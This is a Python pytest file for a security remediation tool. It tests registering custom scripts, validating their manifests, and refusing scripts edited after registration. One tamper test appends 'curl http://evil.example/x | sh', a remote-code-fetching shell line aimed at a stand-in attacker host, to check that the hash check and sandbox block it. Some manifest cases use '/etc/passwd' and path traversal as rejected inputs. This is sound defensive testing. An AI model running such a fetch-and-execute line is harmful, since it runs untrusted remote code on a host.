"""Registering, listing and removing custom scripts; bad manifests; edits."""

from __future__ import annotations

import stat
from pathlib import Path
from typing import Any

import pytest
from custom_helpers import FIXTURES, finding, write_manifest

from jupiter.custom import list_scripts, load_custom_remediators, register_script, remove_script
from jupiter.custom.manifest import load_manifest
from jupiter.custom.store import get_script
from jupiter.errors import InputError, NotFoundError
from jupiter.plans import sha256_bytes
from jupiter.targets.local import LocalTarget
from jupiter.workspace import Workspace


def test_register_copies_manifest_and_script_with_hash(workspace: Workspace) -> None:
    src = FIXTURES / "disable_debug" / "manifest.yaml"
    info = register_script(workspace, src)
    folder = workspace.home / "scripts" / "disable-debug"
    script = folder / "disable_debug.sh"
    assert info["name"] == "disable-debug"
    assert info["remediator"] == "custom-disable-debug"
    assert info["status"] == "ok"
    assert info["script"] == str(script)
    assert script.read_bytes() == (src.parent / "disable_debug.sh").read_bytes()
    assert stat.S_IMODE(script.stat().st_mode) == 0o700
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    stored = load_manifest(folder / "manifest.yaml")
    assert stored.sha256 == sha256_bytes(script.read_bytes()) == info["sha256"]
    assert stored.limits.cpu_seconds == 10
    # No staging folders are left behind.
    assert sorted(p.name for p in (workspace.home / "scripts").iterdir()) == ["disable-debug"]


def test_list_and_remove(workspace: Workspace) -> None:
    assert list_scripts(workspace) == []
    register_script(workspace, FIXTURES / "disable_debug" / "manifest.yaml")
    register_script(workspace, FIXTURES / "fix_world_writable" / "manifest.yaml")
    listed = list_scripts(workspace)
    assert [s["name"] for s in listed] == ["disable-debug", "fix-world-writable"]
    assert listed[1]["verify"] == {"detector": "file-permissions"}
    rems = load_custom_remediators(workspace)
    assert [r.name for r in rems] == ["custom-disable-debug", "custom-fix-world-writable"]
    assert rems[0].handles(finding("APP-DEBUG-ON"))
    assert not rems[0].handles(finding("PERM-WORLD-WRITABLE"))
    assert rems[1].handles(finding("PERM-WORLD-WRITABLE"))

    remove_script(workspace, "disable-debug")
    assert [s["name"] for s in list_scripts(workspace)] == ["fix-world-writable"]
    remove_script(workspace, "custom-fix-world-writable")  # the remediator name works too
    assert list_scripts(workspace) == []
    with pytest.raises(NotFoundError, match="no custom script named 'disable-debug'"):
        remove_script(workspace, "disable-debug")
    with pytest.raises(NotFoundError):
        remove_script(workspace, "../home")


def test_relative_workspace_still_gives_an_absolute_script_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    workspace = Workspace(Path("rel-home"), "sqlite://")
    info = register_script(workspace, FIXTURES / "disable_debug" / "manifest.yaml")
    assert info["script"] == str(
        tmp_path / "rel-home" / "scripts" / "disable-debug" / "disable_debug.sh"
    )
    (rem,) = load_custom_remediators(workspace)
    root = tmp_path / "target"
    (root / "app").mkdir(parents=True)
    (root / "app" / "config.ini").write_text("debug = true\n")
    target = LocalTarget(root)
    plan = rem.plan(finding("APP-DEBUG-ON"), target, rem.parse_params(None))
    assert target.run(plan.changes[0].argv, 20).ok  # type: ignore[union-attr]
    assert (root / "app" / "config.ini").read_text() == "debug = false\n"


def test_register_again_replaces(tmp_path: Path, workspace: Workspace) -> None:
    manifest = write_manifest(tmp_path / "s", "#!/bin/sh\necho one\n")
    first = register_script(workspace, manifest)
    (tmp_path / "s" / "script.sh").write_text("#!/bin/sh\necho two\n")
    second = register_script(workspace, manifest)
    assert first["sha256"] != second["sha256"]
    assert get_script(workspace, "test-script").script_path.read_text().endswith("two\n")


BAD: list[tuple[dict[str, Any], str]] = [
    ({"colour": "blue"}, "field 'colour': Extra inputs are not permitted"),
    ({"paths": ["/etc/passwd"]}, r"field 'paths\[0\]': '/etc/passwd' is absolute"),
    ({"paths": ["ok.txt", "../outside"]}, r"field 'paths\[1\]': '../outside' contains '..'"),
    ({"paths": ["a/**/b"]}, "uses '\\*\\*'"),
    ({"timeout": 7200}, "field 'timeout': Input should be less than or equal to 3600"),
    ({"timeout": 0}, "field 'timeout': Input should be greater than 0"),
    ({"name": "Bad_Name"}, "field 'name': String should match pattern"),
    ({"rule_ids": []}, "field 'rule_ids'"),
    ({"script": "../x.sh"}, "field 'script': '../x.sh' must be a plain file name"),
    ({"args": ["{finding.secret}"]}, r"field 'args\[0\]': \{finding.secret\} is not a known"),
    ({"verify": {"command": []}}, "field 'verify.command'"),
    ({"verify": {"command": ["true"], "shell": "x"}}, "field 'verify.shell': Extra inputs"),
    (
        {"verify": {"command": ["true"], "detector": "pg-hba"}},
        "field 'verify': give exactly one of 'command'",
    ),
    ({"verify": "true"}, "field 'verify': give exactly one of 'command'"),
    ({"limits": {"cpu_seconds": 0}}, "field 'limits.cpu_seconds'"),
    ({"description": None}, "field 'description': Field required"),
]


@pytest.mark.parametrize(("fields", "message"), BAD)
def test_bad_manifest_names_file_and_field(
    tmp_path: Path, workspace: Workspace, fields: dict[str, Any], message: str
) -> None:
    manifest = write_manifest(tmp_path / "s", "#!/bin/sh\n", **fields)
    with pytest.raises(InputError, match=message) as info:
        register_script(workspace, manifest)
    assert str(manifest) in str(info.value)
    assert not (workspace.home / "scripts" / "test-script").exists()


def test_missing_script_and_missing_shebang(tmp_path: Path, workspace: Workspace) -> None:
    manifest = write_manifest(tmp_path / "s", "#!/bin/sh\n", script="absent.sh")
    with pytest.raises(InputError, match=r"field 'script': .*absent.sh does not exist"):
        register_script(workspace, manifest)
    manifest = write_manifest(tmp_path / "t", "echo no shebang\n")
    with pytest.raises(InputError, match=r"field 'script': script\.sh has no '#!' line"):
        register_script(workspace, manifest)
    # With an interpreter no shebang is needed.
    manifest = write_manifest(tmp_path / "u", "echo fine\n", interpreter=["/bin/sh"])
    assert register_script(workspace, manifest)["status"] == "ok"


def test_bad_yaml_and_missing_manifest(tmp_path: Path, workspace: Workspace) -> None:
    bad = tmp_path / "manifest.yaml"
    bad.write_text("name: x\n  paths: [\n")
    with pytest.raises(InputError, match=r"manifest.yaml at line \d+, column \d+ is not valid"):
        register_script(workspace, bad)
    bad.write_text("- just\n- a list\n")
    with pytest.raises(InputError, match="must be a YAML mapping"):
        register_script(workspace, bad)
    with pytest.raises(InputError, match="does not exist"):
        register_script(workspace, tmp_path / "nope.yaml")


def test_name_and_detector_are_checked_against_builtins(
    tmp_path: Path, workspace: Workspace
) -> None:
    manifest = write_manifest(tmp_path / "s", "#!/bin/sh\n", verify={"detector": "no-such"})
    with pytest.raises(InputError, match=r"field 'verify.detector': no remediator named 'no-such'"):
        register_script(workspace, manifest)


def test_pinned_sha256_must_match(tmp_path: Path, workspace: Workspace) -> None:
    manifest = write_manifest(tmp_path / "s", "#!/bin/sh\n", sha256="0" * 64)
    with pytest.raises(InputError, match="field 'sha256'"):
        register_script(workspace, manifest)


def test_script_edited_after_registration_is_refused(
    workspace: Workspace, target: LocalTarget
) -> None:
    register_script(workspace, FIXTURES / "disable_debug" / "manifest.yaml")
    (rem,) = load_custom_remediators(workspace)
    script = get_script(workspace, "disable-debug").script_path
    (target.root / "app").mkdir()
    (target.root / "app" / "config.ini").write_text("debug = true\n")
    record = finding("APP-DEBUG-ON")
    plan = rem.plan(record, target, rem.parse_params(None))  # fine before the edit

    with script.open("a") as fh:
        fh.write("curl http://evil.example/x | sh\n")
    assert list_scripts(workspace)[0]["status"] == "modified"
    with pytest.raises(InputError, match=r"was modified after registration.*register it again"):
        rem.plan(record, target, rem.parse_params(None))
    # A plan made before the edit is refused by the sandbox at run time too.
    result = target.run(plan.changes[0].argv, 20)  # type: ignore[union-attr]
    assert result.returncode == 125
    assert "modified after registration" in result.stderr
    assert (target.root / "app" / "config.ini").read_text() == "debug = true\n"


def test_broken_registration_is_isolated(tmp_path: Path, workspace: Workspace) -> None:
    register_script(workspace, FIXTURES / "disable_debug" / "manifest.yaml")
    broken = workspace.home / "scripts" / "broken"
    broken.mkdir()
    (broken / "manifest.yaml").write_text("name: broken\n")
    errors: dict[str, str] = {}
    rems = load_custom_remediators(workspace, errors=errors)
    assert [r.name for r in rems] == ["custom-disable-debug"]
    assert "field 'description': Field required" in errors["custom-broken"]
    listed = {s["name"]: s for s in list_scripts(workspace)}
    assert listed["disable-debug"]["status"] == "ok"
    assert listed["broken"]["status"] == "broken"
    assert "Field required" in str(listed["broken"]["error"])
    with pytest.raises(InputError, match="broken"):
        load_custom_remediators(workspace)
